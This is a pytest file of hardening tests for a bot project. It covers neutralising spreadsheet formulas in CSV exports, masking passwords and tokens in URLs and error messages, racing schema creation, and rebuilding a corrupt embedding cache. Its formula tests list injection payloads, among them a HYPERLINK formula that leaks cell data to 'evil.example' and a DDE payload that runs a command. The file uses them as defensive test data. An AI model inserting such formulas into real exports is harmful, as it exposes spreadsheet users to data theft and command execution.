"""Issue 14, the parts below the fronts: exported cells, masked URLs, schema creation racing,
a corrupt embedding cache. (The CLI and Telegram findings are in test_hardening_cli.py and
test_hardening_telegram.py.)"""

from __future__ import annotations

import csv
import io
import logging
import threading
from dataclasses import replace
from pathlib import Path

import pytest

from bot.assessment import quick_questions, report
from bot.export import csv_bytes, safe_cell
from bot.store import Database, DatabaseError
from index.catalog import Catalog
from index.chunk import chunk_catalog
from index.embed import EmbeddingCache, get_embedder
from index.masking import mask_url, mask_urls_in
from index.store import IndexError_, VectorIndex
from tests.test_faults import fresh_postgres
from tests.test_report import fake_result

CLOUD = "ISD3512-001v3"
FORMULAS = ('=HYPERLINK("http://evil.example/?x="&A1,"點我")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
            "\t=1+1", "\r=1+1")


# ---------------------------------------------------------------- 2. formulas in exported cells
def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_cell_that_starts_a_formula_is_neutralised(formula: str) -> None:
    assert safe_cell(formula) == "'" + formula
    assert read_csv(csv_bytes(["欄"], [[formula]]))[1] == ["'" + formula]


@pytest.mark.parametrize("value", [3, -2, 0.5, -12.5, "-12.5", "+3", "1e5", "王小明", "T2.2", "", None])
def test_numbers_and_plain_text_are_kept(value: object) -> None:
    expected = "" if value is None else value
    assert safe_cell(value) == expected
    assert read_csv(csv_bytes(["欄"], [[value]]))[1] == [str(expected)]


def test_a_name_and_an_evidence_sentence_reach_the_csv_files_neutralised(catalog: Catalog) -> None:
    doc = catalog.get(CLOUD)
    result = fake_result(doc, quick_questions(doc.duties))  # type: ignore[union-attr, arg-type]
    first = result.tasks[0]
    poisoned_note = replace(first.notes[0], text=FORMULAS[1])
    result = replace(
        result,
        user_name=FORMULAS[0],
        tasks=(replace(first, notes=(poisoned_note,)), *result.tasks[1:]),
    )
    team = read_csv(report.team_csv([result]))
    assert team[1][1] == "'" + FORMULAS[0]
    answers = read_csv(report.answers_csv(result))
    assert any(row[6] == "'" + FORMULAS[1] for row in answers[1:])
    for row in team[1:] + answers[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


def test_a_separator_inside_a_cell_cannot_start_a_new_cell() -> None:
    """Text cells are quoted, so a spreadsheet that splits at ';' keeps `a;=1+1` in one cell."""
    line = csv_bytes(["欄"], [["a;=1+1", 7]]).decode("utf-8-sig").splitlines()[1]
    assert line == '"a;=1+1",7'


# ---------------------------------------------------------------- 3. one masking function for every URL
SECRET_URLS = {
    "postgresql+psycopg://bob@db.example/app?password=Hunter2-Secret": ("db.example", "/app"),
    "postgresql://bob:Hunter2-Secret@db.example:5432/app": ("db.example:5432", "/app"),
    "http://user:Hunter2-Secret@chroma.example:8000": ("chroma.example:8000", ""),
    "https://api.example/bot?token=Hunter2-Secret&x=1": ("api.example", "x=1"),
    "http://127.0.0.1:9/bot123456789:AAH-Hunter2-Secret_abcdefghijklmn/getMe": ("127.0.0.1:9", "/getMe"),
    "postgresql://bob:Hunter2-Secret@db.example:notaport/app?sslpassword=Hunter2-Secret": ("db.example", "/app"),
    "mysql://[::1:Hunter2-Secret@host/x?api_key=Hunter2-Secret": ("host", ""),
}


@pytest.mark.parametrize("url", SECRET_URLS)
def test_a_shown_url_keeps_its_host_and_loses_its_secrets(url: str) -> None:
    shown = mask_url(url)
    assert "Hunter2" not in shown
    for kept in SECRET_URLS[url]:
        assert kept in shown


def test_urls_inside_an_error_text_are_masked() -> None:
    text = "could not connect to postgresql://bob:Hunter2-Secret@db:5432/x (timeout) via http://u:Hunter2@h/"
    shown = mask_urls_in(text)
    assert "Hunter2" not in shown and "db:5432" in shown and "(timeout)" in shown


def test_the_database_error_masks_a_password_in_the_query(tmp_path: Path) -> None:
    database = Database("postgresql+psycopg://bob@127.0.0.1:1/none?password=Hunter2-Secret", timeout=1)
    with pytest.raises(DatabaseError) as error:
        database.create()
    assert "Hunter2" not in str(error.value) and "127.0.0.1:1" in str(error.value)


def test_the_chroma_error_masks_the_user_info(tmp_path: Path) -> None:
    index = VectorIndex(tmp_path / "index", get_embedder("fake"), "http://user:Hunter2-Secret@127.0.0.1:1")
    with pytest.raises(IndexError_) as error:
        index.count()
    assert "Hunter2" not in str(error.value) and "127.0.0.1:1" in str(error.value)


# ---------------------------------------------------------------- 7. processes creating the schema together
def race_to_create(url: str, racers: int = 4) -> list[BaseException]:
    barrier = threading.Barrier(racers)
    errors: list[BaseException] = []

    def start() -> None:
        database = Database(url)
        try:
            barrier.wait()
            database.create()
        except BaseException as e:  # noqa: BLE001 - reported by the test
            errors.append(e)
        finally:
            database.engine.dispose()

    threads = [threading.Thread(target=start) for _ in range(racers)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(60)
    return errors


def test_processes_starting_together_on_a_fresh_sqlite_file_all_start(tmp_path: Path) -> None:
    for attempt in range(8):  # one round failed 19 times in 20 before the fix
        url = f"sqlite:///{tmp_path / f'fresh-{attempt}' / 'bot.sqlite3'}"
        assert race_to_create(url) == []
        assert Database(url).get_session(1)["standard"] is None


def test_processes_starting_together_on_a_fresh_postgres_database_all_start() -> None:
    with fresh_postgres("race") as url:
        if url is None:
            pytest.skip("TEST_DATABASE_URL is not set (./test.sh starts a PostgreSQL)")
        assert race_to_create(url) == []


# ---------------------------------------------------------------- 8. a corrupt embedding cache
def test_a_corrupt_embedding_cache_is_rebuilt_with_a_log_line(
    tmp_path: Path, catalog: Catalog, caplog: pytest.LogCaptureFixture
) -> None:
    chunks = [c for c in chunk_catalog(catalog) if c.standard == CLOUD]
    index = VectorIndex(tmp_path / "index", get_embedder("fake"))
    index.sync(chunks)
    index.cache.close()
    (tmp_path / "index" / "embeddings.sqlite3").write_bytes(b"\x00junk" * 5000)

    caplog.set_level(logging.WARNING)
    again = VectorIndex(tmp_path / "index", get_embedder("fake"))
    vectors = again.cache.embed(["需求分析", "測試報告"])
    assert vectors.shape == (2, get_embedder("fake").dim)
    assert any("embeddings.sqlite3" in r.getMessage() and r.levelno == logging.WARNING for r in caplog.records)
    assert not any(r.exc_info for r in caplog.records)
    assert again.cache.embed(["需求分析"]).shape[0] == 1 and again.cache.hits == 1, "the rebuilt cache keeps vectors"


def test_a_cache_that_goes_bad_while_open_is_rebuilt(tmp_path: Path) -> None:
    path = tmp_path / "embeddings.sqlite3"
    cache = EmbeddingCache(path, get_embedder("fake"))
    cache.embed(["甲乙"])
    path.write_bytes(b"\xff" * 8192)
    assert cache.embed(["甲乙", "丙丁"]).shape[0] == 2
